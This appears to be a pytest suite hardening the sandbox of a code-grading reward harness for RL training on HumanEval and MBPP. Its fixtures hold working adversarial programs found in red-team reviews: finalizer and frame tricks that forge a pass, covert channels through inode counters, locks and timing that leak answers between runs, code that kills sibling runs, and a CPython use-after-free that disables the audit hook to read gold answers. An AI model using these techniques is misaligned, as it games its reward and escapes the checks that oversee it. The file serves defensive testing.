# The 2026-12-01 red team's finding that ended the in-process harness: code of the program ran in the harness's
# worker frame, where the pass nonce was a local. A C callable as a finalizer makes no frame of its own, so
# eval without globals read the worker's locals (1138 of 1138 HumanEval + MBPP passed); also from a gc cycle, a
# defaultdict(locals) capturing them, and an impostor dict key put into the tests' namespace through the setup
# stub's __globals__ (160 of 164 HumanEval). The tests now run in a judge process: none of these reach it.
IN_PROCESS_HARNESS = {
    "finalizer-in-builtins": "import builtins, functools\nclass Evil:\n"
                             "    __del__ = functools.partial(eval, '(write(result_fd, nonce), exit_(0))')\n"
                             "builtins._evil = Evil()\ndef NAME(*a, **k):\n    return 0\n",
    "gc-cycle-finalizer": "import functools, gc\nclass Evil:\n"
                          "    __del__ = functools.partial(eval, '(write(result_fd, nonce), exit_(0))')\n"
                          "e = Evil()\ne.me = e\ndel e\ndef NAME(*a, **k):\n    return 0\ngc.set_threshold(1)\n",
    "defaultdict-locals": "import builtins, collections, functools\nseen = collections.defaultdict(locals)\nclass Keep:\n"
                          "    __del__ = functools.partial(seen.__getitem__, 'worker')\nbuiltins._keep = Keep()\n"
                          "def NAME(*a, **k):\n    w = seen.get('worker', {})\n    if 'nonce' in w:\n"
                          "        w['write'](w['result_fd'], w['nonce'])\n        w['exit_'](0)\n    return 0\n",
    "impostor-key-via-setup": "class K:\n    n = 0\n    def __hash__(self):\n        return hash('_sbx_cmp')\n"
                              "    def __eq__(self, o):\n        if type(o) is str and o == '_sbx_cmp':\n            K.n += 1\n"
                              "            return K.n > 1\n        return False\n    __ne__ = lambda self, o: not self.__eq__(o)\n"
                              "NAME.__globals__[K()] = lambda ops, *thunks: True\ndef NAME(*a, **k):\n    return 0\n",
}


@pytest.mark.parametrize("kind", list(IN_PROCESS_HARNESS))
def test_adversary_runs_code_in_the_harness_frame(kind):
    setup = "def add(a, b):\n    \"\"\"a + b\"\"\"\n"  # HumanEval's setup is the prompt: the entry point's stub
    for problem in ({"test_code": "assert add(1, 2) == 3\nassert add(5, 5) == 10", "entry_point": "add"},
                    {"setup_code": setup, "test_code": "def check(candidate):\n    assert candidate(1, 2) == 3\n",
                     "entry_point": "add"}):
        prog = IN_PROCESS_HARNESS[kind].replace("NAME", "add")
        assert R.code_check(fence(prog), {"task": "code", "prompt": "", **problem}) == (0.0, "fail"), problem


def test_no_oracle_whether_an_answer_passed():
    """The eleventh review: the judge's next request (or its silence) told the program whether its last answer
    passed, and names made in /tmp by os.mkfifo (no audit event) kept that across runs: a program computing
    nothing learned MBPP's hidden answers (about half the problems' reward from its second run). Now a failing
    assert is recorded and the tests go on, every io case runs whatever the earlier ones gave, and mkfifo / mknod
    are gone."""
    prog = "n = [0]\ndef f(x):\n    n[0] += 1\n    print('call', n[0], flush=True)\n    return -1 if n[0] == 1 else x\n"
    r = R.run_python(prog, "assert f(1) == 1\nassert f(2) == 2\nassert f(3) == 3", entry_point="f")
    assert r.status == "fail" and r.stdout.split() == ["call", "1", "call", "2", "call", "3"]  # all three asked
    r = R.run_python(prog, "def check(candidate):\n    for i in range(3):\n        assert candidate(i) == i\n", entry_point="f")
    assert r.status == "fail" and r.stdout.count("call") == 3
    assert R.run_python(prog.replace("n[0] == 1", "False"), "assert f(1) == 1\nassert f(2) == 2", entry_point="f").status == "pass"
    gone = ("import os, posix\ndef f():\n    for m in os, posix:\n        for name in 'mkfifo', 'mknod':\n"
            "            try:\n                getattr(m, name)('/tmp/grpo-fifo-' + name)\n"
            "            except (AttributeError, OSError):\n                pass\n"
            "    return [hasattr(m, name) for m in (os, posix) for name in ('mkfifo', 'mknod')]\n")
    for name in "mkfifo", "mknod":  # left by an earlier run of the mkfifo mutant, maybe
        with contextlib.suppress(FileNotFoundError):
            os.remove("/tmp/grpo-fifo-" + name)
    assert R.code_check(fence(gone), {"task": "code", "prompt": "", "test_code": "assert f() == [False] * 4"}) == (1.0, "pass")
    assert not any(os.path.exists("/tmp/grpo-fifo-" + n) for n in ("mkfifo", "mknod"))


def test_no_oracle_in_assert_messages_and_no_escape_from_the_run():
    """The twelfth review: a failing assert's message ran (HumanEval/77's `str(candidate(1))`), so a repeated call
    told the program it had failed; and os.setsid (no audit event) took it out of the process group killed at the
    end, so it outlived the run and kept what it learned in file locks: HumanEval/77 passed from its second run."""
    prog = "n = [0]\ndef f(x):\n    n[0] += 1\n    print('call', n[0], flush=True)\n    return -1\n"
    r = R.run_python(prog, "assert f(1) == 1, 'got ' + str(f(1))\nassert f(2) == 2, f(2)", entry_point="f")
    assert r.status == "fail" and r.stdout.split() == ["call", "1", "call", "2"]  # no call from a message
    names = ("setsid", "setpgid", "setpgrp", "login_tty", "mkfifo", "mknod", "posix_fadvise", "preadv", "pwritev",
             "memfd_create",  # the fourteenth review: memfd pages are shared memory, not counted by RLIMIT_AS
             "setpriority", "sched_setaffinity", "sched_setscheduler", "sched_setparam")  # sixteenth: other runs
    gone = f"import os, posix\ndef f():\n    return [n for n in {names!r} for m in (os, posix) if hasattr(m, n)]\n"
    assert R.code_check(fence(gone), {"task": "code", "prompt": "", "test_code": "assert f() == []"}) == (1.0, "pass")
    # the thirteenth review: evicting (posix_fadvise DONTNEED) and probing (preadv RWF_NOWAIT) pages of a standard-
    # library file kept bits in the page cache from one run to the next; mmap's madvise(MADV_PAGEOUT) would too
    assert R.code_check(fence("import mmap\ndef f():\n    return 1\n"), {"task": "code", "prompt": "",
                                                                      "test_code": "assert f() == 1"}) == (0.0, "fail")


def test_a_run_leaves_nothing_in_tmp(tmp_path, monkeypatch):
    """The fourteenth review: a program removed its own dir and put a file in its place (the cleanup left the file in
    /tmp: exact notes for later runs in its size, mode and times, while the run still passed), and a chain of 3,000
    directories made shutil.rmtree recurse and fail (it left gigabytes behind)."""
    gone = lambda here: not os.path.lexists(here) and not (os.path.basename(os.path.dirname(here)).startswith(
        R.WORKDIR_PREFIX) and os.path.lexists(os.path.dirname(here)))  # nor the dir above it, if the run's
    swap = ("import os\nhere = os.getcwd()\nprint(here, flush=True)\n[os.remove(n) for n in os.listdir(here)]\n"
            "try:\n    os.rmdir(here)\nexcept OSError as e:\n    print('refused', e, flush=True)\n"
            "try:\n    os.close(os.open(here, os.O_WRONLY | os.O_CREAT, 0o640))\nexcept OSError:\n    pass\n")
    r = R.run_python(swap, stdin="")
    here = r.stdout.split()[0]  # the hook refuses it; and nobody may not write in the dir above (the caller's)
    assert "refused sandbox: os.rmdir" in r.stdout and gone(here) and R.WORKDIR_PREFIX in os.path.dirname(here), r
    deep = ("import os\nprint(os.getcwd(), flush=True)\nos.mkdir('note')\nos.mkdir('note/c')\nfor _ in range(3000):\n"
            "    os.mkdir('n'), os.rename('note/c', 'n/c'), os.rename('n', 'note/c')\nopen('note/c/x', 'w').write('1')\n")
    r = R.run_python(deep, stdin="")
    assert r.status == "pass" and gone(r.stdout.split()[0]), r
    # the fifteenth review: 158k dirs (or files) made the cleanup take 19 s after the run's time limit: at most 10,000
    for make in "os.mkdir(str(i))", "open(str(i), 'w').close()", "os.link('f', str(i))":
        r = R.run_python("import os\nopen('f', 'w').close()\nn = 0\nfor i in range(12000):\n    try:\n"
                         f"        {make}\n        n += 1\n    except OSError:\n        pass\nprint(n)", stdin="")
        assert r.status == "pass" and int(r.stdout) < 10_000, (make, r)
    # _remove on its own (in the run's own root the program's files never reach the caller's dir): paths far past
    # PATH_MAX, a directory with no permissions, a chain of 3,000 directories (shutil.rmtree's recursion failed)
    top, d = tmp_path / "top", ""
    os.makedirs(top / "locked" / "in"), os.makedirs(top / "chain" / "c")
    for _ in range(30):
        os.mkdir(top / "n"), os.rename(top / "locked", top / "n" / ("c" * 200)), os.rename(top / "n", top / "locked")
    for _ in range(3000):
        os.mkdir(top / "n"), os.rename(top / "chain" / "c", top / "n" / "c"), os.rename(top / "n", top / "chain" / "c")
    (top / "f").write_text("1"), os.chmod(top / "locked", 0)
    assert R._remove(str(top)) is False and not top.exists()
    monkeypatch.setattr(R, "_remove", lambda top: True)  # a dir that stays: no reward, and the caller is told
    r = R.run_python("print(1)", stdin="")
    monkeypatch.undo()
    assert r.status == "error" and "could not remove" in r.stderr
    assert R._remove(r.stderr.split("could not remove ")[-1].strip()) is False


@pytest.mark.skipif(os.geteuid() != 0, reason="runs drop to uids of their own only as root")
def test_runs_at_once_have_uids_of_their_own():
    """Each run its own uid (2^30 + the caller's thread id), not one for all: with one, a run could signal the others
    (eighteenth review; its own PID namespace stops that too) and would share the kernel keyrings of that uid."""
    with ThreadPoolExecutor(4) as pool:
        rs = list(pool.map(lambda _: R.run_python("import os, time\ntime.sleep(0.5)\nprint(os.getuid())", stdin=""),
                           range(4)))
    uids = [int(r.stdout) for r in rs]
    assert min(uids) >= 2 ** 30 and len(set(uids)) == 4, rs


@pytest.mark.skipif(os.geteuid() != 0, reason="as non-root every run is the caller (documented)")
def test_a_run_cannot_kill_the_others_of_its_batch():
    """The eighteenth review: every run was nobody, so one program killed the others of its batch (pidfd, or SIGIO
    through F_SETOWN on a pipe) and every correct completion scored 0. Each run has a uid of its own now."""
    evil = ("import fcntl, os, signal, time\ndef add(a, b):\n    return 0\nfor _ in range(20):\n"
            "    for pid in [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
            "        for kill in (lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL),\n"
            "                     lambda: (fcntl.fcntl(r, fcntl.F_SETOWN, pid), fcntl.fcntl(r, fcntl.F_SETFL,\n"
            "                              os.O_ASYNC | os.O_NONBLOCK), os.write(w, b'x'))):\n"
            "            r, w = os.pipe()\n            try:\n                kill()\n            except Exception:\n"
            "                pass\n            os.close(r), os.close(w)\n    time.sleep(0.05)\n")
    good = "import time\ndef add(a, b):\n    time.sleep(0.5)\n    return a + b\n"
    problem = {"task": "code", "prompt": "", "test_code": "assert add(1, 2) == 3", "entry_point": "add"}
    out = R.grade([fence(evil)] + [fence(good)] * 3, [problem] * 4, max_workers=4)
    assert out == [(0.0, "fail")] + [(1.0, "pass")] * 3, out


def test_runs_graded_at_once_cannot_signal_to_each_other():
    """Twenty-third review: a program that computed nothing passed whenever a correct one was graded beside it,
    reading its answers from the free blocks of the filesystem their stdout files share (statvfs). A file lock on a
    standard-library file (any run may read one) did the same with the review's fix alone. Neither has an audit event
    but the lock's own: statvfs, fstatvfs and sysconf (free memory) are gone; locks refused. The previous code: the
    listener passed. os.pipe and pipe2 are gone too: a pipe's inode number comes from a kernel-wide counter, and a
    burst of pipes made by a solver could be read in a listener's own pipes (twenty-fourth review). os.getloadavg (the
    machine's load, from sysinfo) is gone as well (twenty-eighth review: too noisy to carry answers, but machine-wide)."""
    lock = "import fcntl, os, time\nf = open(os.__file__, 'rb')\n"
    solver = lock + "fcntl.flock(f, fcntl.LOCK_EX)\ntime.sleep(1.5)\ndef add(a, b):\n    return a + b\n"
    listener = lock + ("def add(a, b):\n    for _ in range(300):\n        try:\n"
                       "            fcntl.flock(f, fcntl.LOCK_SH | fcntl.LOCK_NB)\n            fcntl.flock(f, fcntl.LOCK_UN)\n"
                       "        except PermissionError:\n            return 0\n        except OSError:\n"
                       "            return 3\n        time.sleep(0.01)\n    return 0\n")
    problem = {"task": "code", "prompt": "", "test_code": "assert add(1, 2) == 3", "entry_point": "add"}
    other = {**problem, "test_code": "assert add(2, 2) == 4"}  # another problem: grade() runs the two at once
    assert R.grade([fence(listener), fence(solver)], [problem, other], max_workers=2)[0] == (0.0, "fail")
    r = R.run_python("import fcntl, os\nprint([hasattr(os, n) for n in ('statvfs', 'fstatvfs', 'sysconf', 'getloadavg', 'pipe', 'pipe2')])\n"
                     "for f in (lambda: fcntl.flock(0, fcntl.LOCK_SH), lambda: os.lockf(1, os.F_TLOCK, 0),\n"
                     "          lambda: fcntl.fcntl(1, fcntl.F_OFD_SETLK, bytes(32))):\n    try:\n        f()\n"
                     "        print('ran')\n    except OSError as e:\n        print(e)\n", stdin="")
    assert r.stdout.split("\n")[:4] == ["[False, False, False, False, False, False]", "sandbox: fcntl.flock", "sandbox: os.lockf",
                                         "sandbox: fcntl.fcntl"], r


def test_programs_of_one_problem_never_run_at_once(monkeypatch):
    """The channel class of the twenty-third and twenty-fourth reviews (a listener computing nothing read a solving
    sibling's answers through something the machine shares; the CPU they share is one no deletion closes) needs the
    two at once: grade() runs one problem's programs one after another, other problems' beside them. The previous
    code ran them all at once (4 of one problem here)."""
    live, most, lock = {}, [], threading.Lock()
    def check(completion, problem, deadline=None):
        with lock:
            live[problem["test_code"]] = live.get(problem["test_code"], 0) + 1
            most.append((max(live.values()), sum(live.values())))
        time.sleep(0.05)
        with lock:
            live[problem["test_code"]] -= 1
        return 1.0, "pass"
    monkeypatch.setattr(R, "code_check", check)
    problems = [{"task": "code", "test_code": f"assert f() == {k}"} for k in range(6) for _ in range(4)]
    assert R.grade(["x"] * 24, problems, max_workers=6) == [(1.0, "pass")] * 24
    assert max(m for m, _ in most) == 1 and max(n for _, n in most) == 3, most  # one each, three lanes at once


def test_no_program_starts_right_after_one_of_its_problem(monkeypatch):
    """Twenty-seventh review: a program starts a near-constant time after the last reply of the program before it
    (75 +- 12 ms), so a solver sending its last reply at a wall-clock phase that spelled its answers told them to the
    next program of its problem, run right after it: one computing nothing passed 111 of MBPP's 116 problems with
    three boolean answers (13/116 alone). Now another problem's program runs between (with a real one there, 5/20 vs
    20/20 before; chance 6/20): each worker's runs interleave two or more problems whenever a call has two. The
    previous code ran each problem's programs back to back."""
    lanes, lock = {}, threading.Lock()
    def check(completion, problem, deadline=None):
        with lock:
            lanes.setdefault(threading.get_ident(), []).append(problem["test_code"])
        return 1.0, "pass"
    monkeypatch.setattr(R, "code_check", check)
    for sizes, workers in [((4, 4), 2), ((8, 8, 8, 8, 8), 2), ((3, 1, 2, 2), 4), ((8,) * 16, 16)]:
        lanes.clear()
        problems = [{"task": "code", "test_code": f"assert f() == {k}"} for k, n in enumerate(sizes) for _ in range(n)]
        assert R.grade(["x"] * len(problems), problems, max_workers=workers) == [(1.0, "pass")] * len(problems)
        assert not [(a, b) for lane in lanes.values() for a, b in zip(lane, lane[1:]) if a == b], (sizes, lanes)


@pytest.fixture
def secret():
    """A world-readable file in a world-traversable dir outside the sandbox, like a data file of gold answers."""
    d = tempfile.mkdtemp()
    os.chmod(d, 0o755)
    with open(os.path.join(d, "gold.txt"), "w") as f:
        f.write("42")
    os.chmod(f.name, 0o644)
    yield f.name
    shutil.rmtree(d)


@pytest.mark.skipif(not R._own_root(sys.executable), reason="needs root, namespaces and mounts (unshare -m -n)")
def test_a_run_sees_only_the_system_python_and_its_own_dir(secret, monkeypatch):
    """Where it can, the sandbox does not rest on the audit hook alone (a CPython bug undid it: nineteenth review):
    the run's root holds the host's files Python needs (bound one by one) and its own dir, a fresh tmpfs, noexec (two
    reviews ran a .so the program wrote), 64 MiB in all; no /proc (twenty-sixth review: its inode numbers came from a
    machine-wide counter); its own network, IPC and PIDs, and no_new_privs (seen from here, in /proc/PID). Checked
    with calls the hook does not see (os.stat, listdir): the previous code showed the secret and /tmp's other files.
    os.statvfs is left to this program (it reads the mount's flags; deleted for programs: a signal between runs)."""
    monkeypatch.setattr(R, "_HARNESS", R._HARNESS.replace('"statvfs", ', ""))
    with ThreadPoolExecutor(1) as pool:
        run = pool.submit(R.run_python, "import os, time\nprint(bool(os.statvfs('.').f_flag & os.ST_NOEXEC))\nn = 0\n"
                          "for i in range(6):\n    try:\n        open(str(i), 'wb').write(b'x' * (16 << 20))\n        n += 1\n"
                          "    except OSError:\n        break\nprint(n)\n"
                          "try:\n    os.stat(%r)\n    print('seen')\nexcept OSError:\n    print('unseen')\n"
                          "print(os.getpid(), os.path.exists('/proc'), os.statvfs('.').f_files)\n"
                          "print(sorted(os.listdir('/')), os.listdir('/tmp'))\ntime.sleep(2)" % secret, stdin="", timeout=10)
        spaces = []  # the namespaces of the run's Python (its cmdline holds the work dir) once it is in its root
        while not spaces and not run.done():
            for pid in _sandbox_procs():
                with contextlib.suppress(OSError):
                    if os.readlink(f"/proc/{pid}/root") != "/":  # the harness, in its root
                        spaces = [os.readlink(f"/proc/{pid}/ns/{ns}") for ns in ("net", "ipc", "pid", "mnt")]
                        nnp = [line.split()[1] for line in open(f"/proc/{pid}/status") if line.startswith("NoNewPrivs")]
        r = run.result()
    noexec, files, seen, pid, proc, inodes, rest = r.stdout.split(None, 6)
    # its own PID and IPC namespaces (twentieth review: a process outlived its run, queues kept notes), and at most
    # 16k files (854k empty ones took 870 MB of kernel memory); no /proc at all (the exit of a process is a signal
    # between runs, twenty-third review; and its inode numbers, twenty-sixth)
    assert int(pid) < 20 and proc == "False" and int(inodes) <= 16384, r
    assert spaces and not set(spaces) & {os.readlink(f"/proc/self/ns/{ns}") for ns in ("net", "ipc", "pid", "mnt")}, spaces
    assert nnp == ["1"], nnp  # no set-uid program under /usr gives it root (one undoing the hook could exec one)
    allowed = {"bin", "dev", "etc", "lib", "lib64", "usr", "tmp"} | {p.split("/")[1] for p in (sys.prefix, sys.base_prefix)}
    root, tmp = eval(rest.replace("] [", "], [").join("()"))
    assert (noexec, files, seen) == ("True", "4", "unseen") and set(root) <= allowed, r
    assert all(n.startswith("grpo-sbx-") or "/tmp/" + n in (sys.prefix, sys.base_prefix) for n in tmp), r
    assert not any("grpo-sbx-" in line for line in open("/proc/self/mounts")), "the mount leaked to the caller"


@pytest.mark.skipif(not R._own_root(sys.executable), reason="needs root, namespaces and mounts (unshare -m -n)")
def test_every_dir_a_run_can_look_names_up_in_is_its_own():
    """The kernel caches failed lookups per filesystem: a correct program looked up missing names under /usr/lib (its
    answers, one name per bit), a later program computing nothing timed one lookup per bit and passed 70-80% of MBPP
    (twenty-fifth review). Every dir of the run's root is now on its own tmpfs (but /dev and its own dir, both
    fresh); the host's files are bound one by one. The previous code: /usr and Python's dirs were the host's."""
    r = R.run_python("import os, sys, _json\nskip, seen = ('/dev', os.getcwd()), {}\n"
                     "for d, subs, files in os.walk('/'):\n    subs[:] = [s for s in subs if os.path.join(d, s) not in skip]\n"
                     "    seen[d] = [os.stat(d).st_dev, files]\n"
                     "print(repr([seen, sys.path[0], _json.__file__, os.stat('.').st_dev]))", stdin="")
    seen, zip_, so, box = eval(r.stdout)
    devs = {dev for dev, _ in seen.values()}
    assert len(devs) == 1 and not devs & {box, os.stat("/usr").st_dev, os.stat(os.__file__).st_dev}, r
    files = {os.path.join(d, f) for d, (_, fs) in seen.items() for f in fs}
    assert {zip_, so, "/etc/ld.so.cache"} <= files and len(files) < 200 and not any("gold" in f for f in files), r


@pytest.mark.skipif(not R._own_root(sys.executable), reason="needs root, namespaces and mounts (unshare -m -n)")
def test_reading_a_file_leaves_no_atime():
    """Under relatime the first read of a file whose atime is older than its mtime (or a day old) sets it: a note one
    run writes (by reading a rarely read standard-library file) and a later one reads with os.stat, no timing needed
    (twenty-fifth review). The files of the run's root are bound read-only and noatime. The previous code: it changed."""
    top = R._own_root(sys.executable)
    binds = [line.split()[:2] for line in open(os.path.join(top, "fstab"))]  # (the file on the host, its path in the root)
    (zip_file, zip_), (so_file, so) = [next((f, p[len(top + "/root"):]) for f, p in binds if x in p) for x in (".zip", "lib-dynload")]
    sts = [os.stat(f) for f in (zip_file, so_file)]
    for f, st in zip((zip_file, so_file), sts):  # older than its mtime: the next read sets it
        os.utime(f, ns=(st.st_mtime_ns - 10**12, st.st_mtime_ns))
    try:
        r = R.run_python(f"print(len(open({zip_!r}, 'rb').read()) > 0 < len(open({so!r}, 'rb').read()))", stdin="")
        assert r.stdout.strip() == "True", r
        assert [os.stat(f).st_atime_ns for f in (zip_file, so_file)] == [st.st_mtime_ns - 10**12 for st in sts], r
    finally:
        [os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns)) for f, st in zip((zip_file, so_file), sts)]


# The twenty-sixth review's notes: the kernel numbers pipes', sockets' and /proc's inodes from one machine-wide
# counter, handed out per CPU in batches of 1024. A solver (a correct program) makes inodes until the batch it takes
# is 2 * its answers' bits (mod 16); a listener that computes nothing takes a fresh batch and reads them back.
INO_NOTES = """
import os
def _alloc():  # a new inode's number: a /proc/self/fd entry (lstat is not audited), or a socket pair's
    ALLOC
def _grab():  # the machine's batch number: inodes made until one starts a fresh batch
    while (v := _alloc()) % 1024 != 1:
        pass
    return v // 1024
"""
INO_ALLOC = {"procfs": "fd = os.dup(0)\n    p = '/proc/self/fd/%d' % fd\n    v = os.lstat(p).st_ino\n    os.close(fd)\n"
                       "    try:\n        os.lstat(p)\n    except OSError:\n        return v\n    return v",
             "socketpair": "import _socket\n    a, b = _socket.socketpair()\n    u, v = os.fstat(a.fileno()).st_ino, "
                           "os.fstat(b.fileno()).st_ino\n    a.close(), b.close()\n    return u if u % 1024 == 1 else v"}
INO_SOLVER = """
_bits, _n, _f = 0, 0, ENTRY
def ENTRY(*a):
    global _bits, _n
    r = _f(*a)
    _bits, _n = _bits | bool(r) << _n, _n + 1
    try:
        while _grab() % 16 != 2 * _bits % 16:
            pass
    except Exception:  # no way to write them: it still passes
        pass
    return r
"""
INO_LISTENER = """
try:
    _bits = (_grab() - 1) % 16 // 2
except Exception:
    _bits = 0  # a wrong guess: the answers are never all False
_n = 0
def ENTRY(*a):
    global _n
    _n += 1
    return bool(_bits >> (_n - 1) & 1)
"""


@pytest.mark.parametrize("alloc", ["procfs", "socketpair"])
def test_a_listener_cannot_read_a_solvers_answers_in_the_machine_wide_inode_counter(alloc):
    """Twenty-sixth review: a program computing nothing passed real MBPP / HumanEval problems right after a correct
    one of the same problem (40/40 in one grade() call, 5/5 across calls; alone 1-4/40), reading the answers the
    solver wrote in the kernel's global inode counter (get_next_ino) through /proc/self/fd/N or _socket.socketpair
    (no audit event). The run's root has no /proc now and _socket is refused (the hook's rule: closed without a
    root of its own too for sockets; /proc is open there). The previous code: both listeners passed."""
    if alloc == "procfs" and not R._own_root(sys.executable):
        pytest.skip("without a root of its own /proc is the host's: this channel is open (rewards.py)")
    notes = INO_NOTES.replace("ALLOC", INO_ALLOC[alloc])
    problems = [("is_odd", "def is_odd(n):\n    return n % 2 == 1\n", "assert is_odd(3) == True\nassert is_odd(4) == False\n"
                 "assert is_odd(7) == True"),
                ("has_close", "def has_close(xs, t):\n    return any(abs(a - b) < t for i, a in enumerate(xs) for b in xs[:i])\n",
                 "def check(candidate):\n    assert candidate([1.0, 2.0, 3.9], 0.3) == False\n"
                 "    assert candidate([1.0, 2.8, 3.0], 0.3) == True\n    assert candidate([1.0, 2.0], 0.5) == False\n")]
    for ep, solution, tests in problems:
        problem = {"task": "code", "prompt": "", "test_code": tests, "entry_point": ep}
        solver, listener = (notes + solution + part.replace("ENTRY", ep) for part in (INO_SOLVER, INO_LISTENER))
        assert R.grade([fence(solver), fence(listener)], [problem] * 2, max_workers=1) == [(1.0, "pass"), (0.0, "fail")], ep


@pytest.mark.skipif(not R._own_root(sys.executable), reason="needs root, namespaces and mounts (unshare -m -n)")
def test_no_inode_a_run_can_make_is_numbered_by_a_machine_wide_counter():
    """Every way a program could make an inode and see its number (twenty-sixth review: /proc's and sockets' come
    from the kernel's global counter; so do pipes', and memfd's from the kernel's own tmpfs; pidfds' are numbered by
    a machine-wide count of processes): each is refused, gone or fails in the run's root (no /proc, /dev/ptmx or
    /dev/shm), or shows the same number in two runs (a tmpfs of the run's own; eventfd, epoll and timerfd share one
    anonymous inode). The previous code: /proc, socketpair and pidfd_open showed numbers that moved between runs."""
    ways = {"procfs": "os.lstat('/proc/self/fd/0')", "socketpair": "__import__('_socket').socketpair()[0]",
            "pipe": "os.pipe()[0]", "memfd": "os.memfd_create('m')", "mkfifo": "os.mkfifo('f') or os.stat('f')",
            "pidfd": "os.pidfd_open(os.getpid())", "openpty": "os.openpty()[0]", "eventfd": "os.eventfd(0)",
            "epoll": "__import__('select').epoll()", "timerfd": "os.timerfd_create(1)", "file": "open('g', 'w')",
            "tempfile": "__import__('tempfile').TemporaryFile()", "mmap": "__import__('mmap').mmap(-1, 4096)",
            "shm": "__import__('_posixshmem').shm_open('/s', os.O_CREAT | os.O_RDWR, 0o600)"}
    code = ("import os\nkeep = []\nfor name, way in %r.items():\n    try:\n        keep.append(x := eval(way))\n"
            "        print(name, (x if type(x) is os.stat_result else os.fstat(x if type(x) is int else x.fileno())).st_ino)\n"
            "    except Exception as e:\n        print(name, type(e).__name__)\n" % ways)
    runs = [R.run_python(code, stdin="").stdout.split() for _ in range(2)]
    first, second = (dict(zip(r[::2], r[1::2])) for r in runs)
    assert first.keys() == ways.keys() and first == second, runs
    assert all(not v.isdigit() for k, v in first.items() if k in ("procfs", "socketpair", "pipe", "memfd", "pidfd")), first


@pytest.mark.parametrize("own_root", [True, False])
def test_sockets_are_refused_even_those_with_no_audit_event(own_root, monkeypatch):
    """_socket.socketpair and if_nameindex make sockets with no audit event (their inodes numbered from the machine's
    counter: twenty-sixth review), and deleting socketpair alone is undone by importing _socket again. C code made
    sockets too, each moving the counter a later run reads in its own pipes' inode numbers: _uuid's uuid1 (one per
    call, to uuidd) and glibc's user and group lookups (one per 100, to nscd: pwd, grp, os.getgrouplist,
    os.initgroups). Those modules are refused (uuid goes on without _uuid) and those functions gone, also where only
    the audit hook guards (no root of its own). The previous code: all of them ran."""
    if not own_root:
        monkeypatch.setattr(R, "_own_root", lambda *python: "")
    code = ("import glob, os, sys\nseen = [n for n in ('getgrouplist', 'initgroups') if hasattr(os, n)]\n"
            "for name in ('socket', '_socket', '_uuid', 'pwd', 'grp'):\n    try:\n"
            "        seen.append(__import__(name))\n    except ModuleNotFoundError:\n        pass\n"
            "so = [p for d in sys.path for p in glob.glob(d + '/_socket.*.so')]  # only outside a root of its own\n"
            "spec, loader = sys.modules['_frozen_importlib'].ModuleSpec, sys.modules['_frozen_importlib_external'].ExtensionFileLoader\n"
            "for p in so:  # loaded again by its path\n    try:\n"
            "        seen.append(loader('_socket', p).create_module(spec('_socket', None, origin=p)))\n"
            "    except ImportError:\n        pass\n"
            "import uuid\nprint(seen, len(so), uuid.uuid1().version)\n")
    r = R.run_python(code, stdin="")
    # a Python built with _socket inside the interpreter (Ubuntu's) has no .so to load again: count the host's
    so = [p for d in sys.path for p in glob.glob(d + "/_socket.*.so")]
    assert r.stdout == f"[] {len(so) if not own_root else 0} 1\n", r


def test_the_run_has_its_own_root_where_the_machine_allows_it():
    """The tests of the run's root skip where it cannot be had; where it can (root, `unshare -m -n` works: CI and
    this project's machines), it must be in use, or a sandbox that lost it would pass with those tests skipped."""
    can = os.geteuid() == 0 and subprocess.run(["sh", "-c", "unshare -m -n true"], capture_output=True).returncode == 0
    assert bool(R._own_root(sys.executable)) == can


@pytest.mark.skipif(os.geteuid() != 0, reason="only root makes a root for the runs")
def test_a_root_that_cannot_be_made_leaves_the_runs_in_a_plain_dir_with_one_warning(monkeypatch, capfd):
    """Branch private-fs's open item: where making the runs' root failed (the zip, ldd, the skeleton), every run
    failed with it. Now the runs go on in a plain dir behind the audit hook alone, and one line on stderr says so,
    once: the lookup-cache notes are then open. The previous code: every run raised."""
    monkeypatch.setattr(R, "_HARNESS", R._HARNESS.replace("return _root_files(", "return 1 / 0 + _root_files("))
    R._own_root.cache_clear()
    try:
        runs = [R.run_python("import os\nprint(6 * 7, os.stat('.').st_dev)", stdin="") for _ in range(2)]  # its dir: the host's
        err, dev = capfd.readouterr().err.splitlines(), os.stat(tempfile.gettempdir()).st_dev
        assert not R._own_root(sys.executable) and [(r.status, r.stdout) for r in runs] == [("pass", f"42 {dev}\n")] * 2
        assert len(err) == 1 and "lookup-cache" in err[0] and "ZeroDivisionError" in err[0], err
    finally:
        monkeypatch.undo()
        R._own_root.cache_clear()
    assert R._own_root(sys.executable)


# The nineteenth review's use-after-free (io.BufferedReader's buffer kept by a RawIOBase.readinto past its free,
# CPython 3.11-3.13): memory read and written from pure Python, the audit hook's closure reached through a refused
# call's traceback and its `inside` made always true. Past that, only the run's root (above) keeps the secret away.
UAF = r"""
import io, struct, sys
class Raw(io.RawIOBase):
    def readinto(self, b):
        global view
        view = b
        return 0
    def readable(self):
        return True
r = io.BufferedReader(Raw(), 4096)
r.read(1)
del r
v = view.cast("P")
t = tuple(range(1000, 1505))
base = next(i for i in range(len(v) - 1) if v[i] == id(t[0]) and v[i + 1] == id(t[1]))
def obj(addr):
    v[base + 2] = addr
    return t[2]
fake = struct.pack("7q", 1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
mem = obj(id(fake) + sys.getsizeof(b"") - 1)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
try:
    open(SECRET)
except OSError as e:
    tb = e.__traceback__
hook = None
while tb is not None and hook is None:
    frame = rd(rd(id(tb) + 24) + 24)
    for off in range(0, 48, 8):
        p = rd(frame + off)
        if p > 1 << 16 and rd(p + 8) == id(type(obj)) and obj(p).__name__ == "hook":
            hook = obj(p)
    tb = tb.tb_next
dict(zip(hook.__code__.co_freevars, hook.__closure__))["inside"].cell_contents = lambda r: True
try:  # a file of the run's root outside the standard library: refused by the hook
    open("/etc/ld.so.cache", "rb").close()
    print("hook off")
except PermissionError:
    print("hook on")
try:
    print(open(SECRET).read())
except OSError as e:
    print(type(e).__name__)
"""


@pytest.mark.skipif(not R._own_root(sys.executable), reason="needs root, namespaces and mounts (unshare -m -n)")
def test_adversary_undoes_the_audit_hook_through_a_use_after_free(secret):
    """Nineteenth review, critical: this chain read the data's gold solutions (1,066 of 1,138 HumanEval + MBPP passed
    by one program computing nothing). Now the hook falls, but the secret is not in the run's root."""
    code = "SECRET = %r\n" % secret + UAF
    r = R.run_python(code, stdin="", timeout=10)
    if "hook off" not in r.stdout:
        pytest.skip("the use-after-free does not work on this Python: %r" % r)
    assert r.stdout.split() == ["hook", "off", "FileNotFoundError"], r
